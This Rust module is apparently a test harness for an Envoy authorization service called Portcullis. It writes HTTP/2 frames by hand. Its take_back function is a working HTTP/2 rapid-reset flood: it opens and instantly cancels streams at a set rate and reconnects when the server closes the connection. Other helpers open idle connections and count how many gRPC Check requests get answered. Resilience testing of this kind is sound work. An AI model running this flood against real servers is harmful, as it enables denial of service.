//! HTTP/2 frames written by hand: streams that are taken back, and connections that stay.

use std::{net::SocketAddr, time::Duration};

use envoy_types::pb::envoy::service::auth::v3::{
    AttributeContext, CheckRequest,
    attribute_context::{HttpRequest, Request},
};
use prost::Message as _;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::Instant,
};

use super::Failure;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const ACK: u8 = 1;
/// Checks that wait for their answers at the same time.
const AT_A_TIME: u32 = 64;
/// RFC 9113 section 7: CANCEL.
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
/// Clients may open so many streams on a connection (RFC 9113 section 5.1.1); one more needs another connection.
const LAST_STREAM: u32 = 1_000_000_000;

fn put(into: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let [_, a, b, c] = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    into.extend_from_slice(&[a, b, c, kind, flags]);
    into.extend_from_slice(&stream.to_be_bytes());
    into.extend_from_slice(payload);
}

/// Writes a literal header field with an indexed name, neither indexed nor Huffman-coded (RFC 7541 section 6.2.2).
fn literal(into: &mut Vec<u8>, name: u8, value: &str) {
    // Values of 127 bytes and more take a length of several bytes; none here are so long.
    into.extend_from_slice(&[name & 0x0f, u8::try_from(value.len().min(126)).unwrap_or(126)]);
    into.extend_from_slice(value.as_bytes().get(..value.len().min(126)).unwrap_or_default());
}

/// Returns the header block of `GET /api/private` without a token.
fn request() -> Vec<u8> {
    // `:method: GET` and `:scheme: http` of the static table (RFC 7541, appendix A).
    let mut block = vec![0x82, 0x86];
    literal(&mut block, 4, "/api/private");
    literal(&mut block, 1, "api.example.com");
    block
}

/// The counts of one attack.
#[derive(Clone, Copy, Debug, Default)]
pub(crate) struct Attack {
    /// Streams that were opened and taken back.
    pub(crate) streams: u64,
    /// Connections that it took: the peer closes those of a hostile client.
    pub(crate) connections: u64,
}

/// Opens so many streams a second on one connection at a time and takes each back at once, for that time.
pub(crate) async fn take_back(address: SocketAddr, rate: u32, time: Duration) -> Result<Attack, Failure> {
    let (mut attack, started) = (Attack::default(), Instant::now());
    while started.elapsed() < time {
        attack.connections += 1;
        // A connection that the peer closes is no failure: the next one goes on.
        let _ = one_connection(address, rate, started, time, &mut attack).await;
    }
    Ok(attack)
}

async fn one_connection(
    address: SocketAddr,
    rate: u32,
    started: Instant,
    time: Duration,
    attack: &mut Attack,
) -> Result<(), Failure> {
    let stream = TcpStream::connect(address).await?;
    stream.set_nodelay(true)?;
    let (mut read, mut write) = stream.into_split();
    let mut output = PREFACE.to_vec();
    put(&mut output, SETTINGS, 0, 0, &[]);
    let block = request();
    let (mut next, mut input) = (1_u32, Vec::new());
    // Bursts: streams that are taken back one by one are hardly ever seen together.
    let mut ticks = tokio::time::interval(Duration::from_millis(20));
    while started.elapsed() < time && next < LAST_STREAM {
        tokio::select! {
            _ = ticks.tick() => {
                let due = started.elapsed().as_micros() * u128::from(rate) / 1_000_000;
                let burst = u64::try_from(due)?.saturating_sub(attack.streams).min(u64::from(rate / 20));
                for _ in 0..burst {
                    put(&mut output, HEADERS, END_STREAM | END_HEADERS, next, &block);
                    put(&mut output, RST_STREAM, 0, next, &CANCEL);
                    next += 2;
                }
                attack.streams += burst;
                write.write_all(&output).await?;
                output.clear();
            }
            read = read.read_buf(&mut input) => {
                if read? == 0 || !answer(&mut input, &mut output) {
                    return Ok(());
                }
            }
        }
    }
    Ok(())
}

/// Takes all whole frames out of the input and acknowledges what has to be. Returns false at GOAWAY.
fn answer(input: &mut Vec<u8>, output: &mut Vec<u8>) -> bool {
    while let Some(&[a, b, c, kind, flags, ..]) = input.get(..9) {
        let length = usize::try_from(u32::from_be_bytes([0, a, b, c])).unwrap_or(usize::MAX);
        let Some(frame) = input.get(..9 + length) else { break };
        match kind {
            SETTINGS if flags & ACK == 0 => put(output, SETTINGS, ACK, 0, &[]),
            PING if flags & ACK == 0 => put(output, PING, ACK, 0, frame.get(9..).unwrap_or_default()),
            GOAWAY => return false,
            _ => {}
        }
        input.drain(..9 + length);
    }
    true
}

/// Opens a connection of HTTP/2 on which nothing is asked.
pub(crate) async fn idle(address: SocketAddr) -> Result<TcpStream, Failure> {
    let mut stream = TcpStream::connect(address).await?;
    let mut output = PREFACE.to_vec();
    put(&mut output, SETTINGS, 0, 0, &[]);
    stream.write_all(&output).await?;
    Ok(stream)
}

/// Asks that many Checks of a public path on one connection, some at a time, until all are answered or the time runs out.
/// Returns how many were answered.
pub(crate) async fn ask_many(address: SocketAddr, count: u32, time: Duration) -> Result<u32, Failure> {
    let mut stream = idle(address).await?;
    let message = public_check();
    let mut data = vec![0];
    data.extend_from_slice(&u32::try_from(message.len())?.to_be_bytes());
    data.extend_from_slice(&message);
    let block = check_headers();
    let (mut output, mut input) = (Vec::new(), Vec::new());
    // All the answers fit into the connection's window.
    put(&mut output, WINDOW_UPDATE, 0, 0, &(1_u32 << 30).to_be_bytes());
    let (mut asked, mut answered, started) = (0, 0, Instant::now());
    while answered < count && started.elapsed() < time {
        while asked < count && asked - answered < AT_A_TIME {
            put(&mut output, HEADERS, END_HEADERS, 2 * asked + 1, &block);
            put(&mut output, DATA, END_STREAM, 2 * asked + 1, &data);
            asked += 1;
        }
        stream.write_all(&output).await?;
        output.clear();
        match tokio::time::timeout(time.saturating_sub(started.elapsed()), stream.read_buf(&mut input)).await {
            // A service that hangs is seen by its other answers.
            Err(_) => break,
            Ok(read) => {
                if read? == 0 {
                    return Err("Portcullis closed a connection in use".into());
                }
            }
        }
        answered += ended_streams(&input);
        if !answer(&mut input, &mut output) {
            return Err("Portcullis closed a connection in use".into());
        }
    }
    Ok(answered)
}

/// Counts the whole frames of trailers.
fn ended_streams(mut input: &[u8]) -> u32 {
    let mut ended = 0;
    while let Some(&[a, b, c, kind, flags, ..]) = input.get(..9) {
        let length = usize::try_from(u32::from_be_bytes([0, a, b, c])).unwrap_or(usize::MAX);
        let Some(rest) = input.get(9 + length..) else { break };
        ended += u32::from(kind == HEADERS && flags & END_STREAM != 0);
        input = rest;
    }
    ended
}

/// Returns the message of a Check that is allowed without a token.
fn public_check() -> Vec<u8> {
    let http = HttpRequest {
        method: "GET".to_owned(),
        path: "/api/public".to_owned(),
        host: "api.example.com".to_owned(),
        scheme: "http".to_owned(),
        ..HttpRequest::default()
    };
    let request = Request { http: Some(http), ..Request::default() };
    let attributes = AttributeContext { request: Some(request), ..AttributeContext::default() };
    CheckRequest { attributes: Some(attributes) }.encode_to_vec()
}

/// Waits until something comes back on a connection.
pub(crate) async fn answered(stream: &mut TcpStream, patience: Duration) -> bool {
    // The answer to a Check comes after the settings, and in the same read or a later one.
    let mut input = [0; 1024];
    tokio::time::timeout(patience, stream.read(&mut input)).await.is_ok_and(|read| read.is_ok_and(|read| read > 0))
}

/// Opens a connection of HTTP/2 and asks one Check on it.
pub(crate) async fn used(address: SocketAddr) -> Result<TcpStream, Failure> {
    let mut stream = idle(address).await?;
    let mut output = Vec::new();
    put(&mut output, SETTINGS, ACK, 0, &[]);
    put(&mut output, HEADERS, END_HEADERS, 1, &check_headers());
    put(&mut output, DATA, END_STREAM, 1, &[0; 5]);
    stream.write_all(&output).await?;
    Ok(stream)
}

/// Returns the header block of a Check.
fn check_headers() -> Vec<u8> {
    // `:method: POST`, `:scheme: http`.
    let mut block = vec![0x83, 0x86];
    literal(&mut block, 4, "/envoy.service.auth.v3.Authorization/Check");
    literal(&mut block, 1, "localhost");
    // `te: trailers` and the content type, whose name is in the static table.
    block.extend_from_slice(&[0x00, 2]);
    block.extend_from_slice(b"te");
    block.push(8);
    block.extend_from_slice(b"trailers");
    block.extend_from_slice(&[0x0f, 16, 16]);
    block.extend_from_slice(b"application/grpc");
    block
}
